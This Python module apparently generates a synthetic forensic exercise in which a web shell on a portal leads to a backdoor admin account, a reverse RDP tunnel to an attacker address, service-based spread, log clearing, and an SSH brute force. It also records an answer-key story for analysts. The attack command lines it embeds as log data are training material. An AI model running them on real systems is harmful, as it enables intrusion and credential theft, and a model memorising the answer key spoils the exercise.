"""A web shell on the portal, then inwards: SQL server, application server, a Linux host."""

from __future__ import annotations

from datetime import date, datetime

from hikeshi.demo import logs
from hikeshi.demo.actions import CMD, POWERSHELL, Actions
from hikeshi.demo.evidence_set import SECURITY, Record
from hikeshi.demo.ordinary import ssh_session
from hikeshi.demo.truth import Story
from hikeshi.demo.world import AUTH, IIS, MINUTE, POOL, SECOND, World
from hikeshi.model.text import Text

NAME = "webshell"
TITLE = Text("Web サーバーに置かれた Web シェル", "A web shell on the portal")
DESCRIPTION = Text(
    "公開サーバーに Web シェルが置かれ、社内のサーバー 3 台に広がりました。",
    "A web shell on the public server; the intruder reached three more servers inside.")
FIRST, END = date(2026, 8, 15), datetime(2026, 8, 21, 10, 0)  # noqa: DTZ001 (local time of the company)

_UPLOADER = "/portal/UploadHandler.ashx"
_NEW, _ADMIN, _LINUX_USER = "svc_iisupd", "svc_deploy", "monitor"
_SYSTEM32 = "C:\\Windows\\System32\\"
_WORKER = _SYSTEM32 + "inetsrv\\w3wp.exe"
_SERVICE, _SERVICE_IMAGE = "WinDefendUpdSvc", "C:\\Windows\\Temp\\wdu.exe"
_DAY = 4  # Wednesday, 19 August


def happen(world: World) -> Story:
    """Let the attack happen in `world`; what an analyst should find."""
    attack = _Attack(world)
    attack.scan()
    attack.plant_shell()
    attack.take_over_web_server()
    attack.spread()
    attack.reach_linux()
    attack.leave_remarks()
    return attack.story


class _Attack:
    def __init__(self, world: World) -> None:
        self.world, self.do, self.story = world, Actions(world, NAME), Story(NAME)

        self.delay = world.cast("delay", 0, -95, -41, 1) * MINUTE
        self.attacker = world.cast("attacker", "198.51.100.23", "203.0.113.52", "192.0.2.14")
        self.file = world.cast("shell", "img_0819.aspx", "help2.aspx", "thumb.ashx")
        self.shell = f"/portal/upload/{self.file}"
        self.desktop, self.serviced = world.cast("servers", ("SQL01", "APP01"), ("APP01", "SQL01"))

    def at(self, clock: str, day: int = _DAY) -> int:
        return self.world.at(day, clock) + self.delay

    def _hit(self, time: int, method: str, path: str, status: int, *, query: str = "-", taken: int = 40) -> Record:
        return self.do.evidence.line(IIS, time, logs.iis(
            time, server=self.world.host("WEB01").address, client=self.attacker, method=method, path=path, query=query,
            status=status, agent="python-requests/2.32.3" if status == 404 else "Mozilla/5.0+(X11;+Linux+x86_64)",
            taken_ms=taken))

    def scan(self) -> None:
        words = ("admin", "backup", "api", "upload", "old", "test", "portal/upload", "portal/api", "portal/admin",
                 "UploadHandler.ashx", "portal/UploadHandler.ashx")
        for number in range(140):
            word = words[number % len(words)]
            known = word == "portal/UploadHandler.ashx"
            self._hit(self.at("21:02:11") + number * 3 * SECOND, "GET", f"/{word}{'' if known else f'/{number:03d}'}",
                      405 if known else 404, taken=3)
        self.do.traffic(self.attacker, self.world.host("WEB01").address, 443, self.at("21:02:10"), duration=430,
                        sent=90_000, received=240_000, interfaces=("wan1", "dmz"))

    def plant_shell(self) -> None:
        do, story = self.do, self.story
        time = self.at("21:14:37")
        records = [self._hit(time, "POST", _UPLOADER, 200, query="t=img", taken=212),
                   self._hit(time + 15 * SECOND, "GET", self.shell, 200, taken=1430)]
        disk = f"C:\\inetpub\\wwwroot\\portal\\upload\\{self.file}"
        created = do.file_created("WEB01", POOL, time + SECOND, _WORKER, disk)
        moment = time + 30 * SECOND
        for _ in range(64):
            records.append(self._hit(moment, "POST", self.shell, 200, taken=do.rng.randrange(40, 2600)))
            moment += do.rng.randrange(8 * SECOND, 190 * SECOND)
        story.may("compromised_accounts", POOL)
        story.entry("web_shell", time, records + created, source=self.attacker, account=None, host="WEB01")
        story.claim("persistence", ["WEB01", "web_shell", self.file], time, records + created)
        story.aliases[self.file] = [self.shell, disk]
        story.may("c2", self.attacker)
        for minute, command in ((2, "whoami"), (3, "ipconfig /all"), (4, "net user"), (5, "systeminfo"), (9, "arp -a")):
            records += do.process("WEB01", POOL, 0x5A3C1, time + minute * MINUTE, CMD, f'cmd.exe /c "{command}"',
                                  _WORKER, _WORKER + ' -ap "PortalPool" -v "v4.0"')

    def take_over_web_server(self) -> None:
        do, story = self.do, self.story
        self._deploy_by_day()
        time = self.at("21:41:12")
        helper = "C:\\Windows\\Temp\\gp.exe"
        do.process("WEB01", POOL, 0x5A3C1, time - 2 * SECOND, helper, 'gp.exe -cmd "cmd /c net user"', CMD)
        logon_id, sid = 0x3E7, self.world.add_local_account("WEB01", _NEW)
        records = do.process("WEB01", "SYSTEM", logon_id, time, _SYSTEM32 + "net.exe",
                             f"net user {_NEW} Iis!upd8.Run /add", helper)
        subject = do.subject("SYSTEM", "WEB01", logon_id)
        records += do.account_created("WEB01", "SYSTEM", logon_id, time + 300_000, _NEW, sid)
        records += do.process("WEB01", "SYSTEM", logon_id, time + 9 * SECOND, _SYSTEM32 + "net.exe",
                              f"net localgroup Administrators {_NEW} /add", helper)
        records.append(do.evidence.event(
            "WEB01", SECURITY, 4732, time + 9_400_000, MemberSid=sid, TargetUserName="Administrators",
            TargetDomainName="Builtin", TargetSid="S-1-5-32-544", **subject))
        story.claim("persistence", ["WEB01", "account", _NEW], time, records)
        story.account(_NEW, time, records)

        time = self.at("22:20:45")
        records = do.process("WEB01", "SYSTEM", 0x3E7, time, POWERSHELL,
                             "powershell.exe -ep bypass -f C:\\Windows\\Temp\\k.ps1", helper)
        records += do.process_access("WEB01", "SYSTEM", time + SECOND, POWERSHELL, _SYSTEM32 + "lsass.exe", "0x1010")
        story.host("WEB01", time, records)

    def _deploy_by_day(self) -> None:
        """The deployment account at its proper work: from the jump host to three servers."""
        address = self.world.host("JUMP01").address
        for number, name in enumerate(("WEB01", "SQL01", "APP01")):
            time = self.world.at(_DAY - 1, "10:05:12") + number * 40 * SECOND
            self.do.service_ticket(_ADMIN, address, name, time - SECOND)
            logon_id, _ = self.do.logon(name, _ADMIN, 3, time, address=address, stay_s=25)
            self.do.share_access(name, _ADMIN, logon_id, time + SECOND // 4, address, "Deploy$", "portal\\web.config",
                                 path="\\??\\D:\\Deploy")

    def spread(self) -> None:
        do, story, world = self.do, self.story, self.world
        web = world.host("WEB01").address
        # A desktop on the web server itself, through a tunnel that ends at its loopback address.
        time = self.at("22:48:30")
        do.process("WEB01", "SYSTEM", 0x3E7, time - MINUTE, "C:\\Windows\\Temp\\ch.exe",
                   f"ch.exe client {self.attacker}:443 R:3390:127.0.0.1:3389", "C:\\Windows\\Temp\\gp.exe")
        do.traffic(web, self.attacker, 443, time - MINUTE, duration=7300, sent=64_000_000, received=9_000_000,
                   interfaces=("dmz", "wan1"))
        do.rdp("127.0.0.1", "WEB01", _NEW, time, minutes=112, client_name="kali")
        for source in ("127.0.0.1", "WEB01", self.attacker):
            story.may("spread", [source, "WEB01", _NEW, "rdp"])
        time = self.at("23:05:18")
        logon_id, records = do.rdp(web, self.desktop, _ADMIN, time, minutes=95, used_by=_NEW, client_name="WEB01")
        records += do.traffic(web, world.host(self.desktop).address, 3389, time, duration=5700, sent=9_000_000,
                              received=70_000_000, interfaces=("dmz", "lan"), service="RDP")
        story.spread("WEB01", self.desktop, _ADMIN, "rdp", time, records)
        do.process(self.desktop, _ADMIN, logon_id, time + 4 * MINUTE, CMD, '"C:\\Windows\\system32\\cmd.exe"',
                   "C:\\Windows\\explorer.exe")
        time = self.at("23:20:06")
        logon_id, records = do.remote_service("WEB01", self.serviced, _ADMIN, time, used_by=_NEW, name=_SERVICE,
                                              image=_SERVICE_IMAGE + " -svc", drop="Temp\\wdu.exe")
        records += do.traffic(web, world.host(self.serviced).address, 445, time - 30 * SECOND, duration=200,
                              sent=740_000, received=21_000, interfaces=("dmz", "lan"), service="SMB")
        story.spread("WEB01", self.serviced, _ADMIN, "service", time, records)
        story.claim("persistence", [self.serviced, "service", _SERVICE], time, records)
        time = self.at("23:58:31")
        do.process(self.serviced, "SYSTEM", 0x3E7, time - SECOND, _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security",
                   _SERVICE_IMAGE)
        records = do.log_cleared(self.serviced, "SYSTEM", 0x3E7, time)
        story.claim("log_gaps", [self.serviced, "cleared"], time, records)
        story.may("log_gaps", [self.serviced, "silence"])

    def reach_linux(self) -> None:
        """From the SQL server: passwords tried against sshd until one fits."""
        do, story, world = self.do, self.story, self.world
        address = world.host(self.desktop).address
        do.process(self.desktop, _ADMIN, world.next_logon_id(), self.at("23:54:02"), "C:\\Users\\Public\\hy.exe",
                   "hy.exe -L u.txt -P p.txt ssh://10.20.1.61", CMD)
        time = self.at("23:55:10")
        records: list[Record] = []
        for number in range(72):
            user = ("root", "admin", _LINUX_USER, "ubuntu")[number % 4]
            unknown = "invalid user " if user in ("admin", "ubuntu") else ""
            records.append(do.evidence.line(AUTH, time, logs.syslog(
                time, "LNX01", f"sshd[{4100 + number}]",
                f"Failed password for {unknown}{user} from {address} port {do.rng.randrange(49152, 65500)} ssh2")))
            time += do.rng.randrange(9 * SECOND, 17 * SECOND)
        time = self.at("00:13:29", _DAY + 1)
        records = ssh_session(do, _LINUX_USER, address, time, method="password", minutes=34) + records
        story.spread(self.desktop, "LNX01", _LINUX_USER, "ssh", time, records)
        do.evidence.line(AUTH, time + 3 * MINUTE, logs.syslog(
            time + 3 * MINUTE, "LNX01", "sudo",
            f"{_LINUX_USER} : TTY=pts/1 ; PWD=/home/{_LINUX_USER} ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"))

    def leave_remarks(self) -> None:
        self.do.evidence.files["notes.txt"] = _REMARKS.encode()
        self.story.decoy_hosts += ["JUMP01", "DC01", "DC02", "FS01", "FS02", "BK01", "MAIL01", "RDS01"]
        self.story.decoy_accounts += ["svc_backup", "adm-sato", "adm-kobayashi", "root"]


_REMARKS = """\
証拠の収集メモ / Notes on collection
会社の時刻帯 / Company time zone: Asia/Tokyo (JST, UTC+9)
取得日時 / Taken at: 2026-08-21 10:00 JST
公開 Web サーバー / Public web server: WEB01 (10.20.30.11, DMZ)。IIS のログは UTC です。
The IIS log is in UTC.
Linux サーバー / Linux server: LNX01 (10.20.1.61)
"""
